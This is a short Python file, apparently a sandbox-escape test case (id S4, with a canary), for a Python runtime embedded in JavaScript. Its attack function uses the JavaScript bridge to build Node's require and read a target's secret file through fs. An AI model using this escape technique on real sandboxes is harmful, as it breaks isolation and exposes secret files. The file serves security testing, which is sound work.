"""A require of its own making, and fs by it.

id: S4
canary: secret
"""

import js


def attack(target):
    require = js.process.getBuiltinModule("module").createRequire("/")
    return require("fs").readFileSync(target.secret_file, "utf8")
